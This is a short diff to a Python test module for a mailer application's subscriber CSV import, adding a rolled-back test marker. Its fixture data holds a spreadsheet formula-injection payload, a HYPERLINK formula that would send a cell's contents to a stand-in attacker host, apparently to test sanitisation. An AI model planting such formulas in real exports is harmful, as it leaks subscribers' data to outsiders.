@@ -15,6 +15,9 @@ from mailer.subscribers.csv_files import import_csv
 from mailer.subscribers.models import Consent, Subscriber, Subscription
 from tests.harness.admin import log_in, make_editors
 
+# Domain code, views and commands in this thread only: each test is rolled back.
+pytestmark = pytest.mark.rolled_back
+
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klikk her")'
 NAMES = {
     "a@example.no": HYPERLINK,
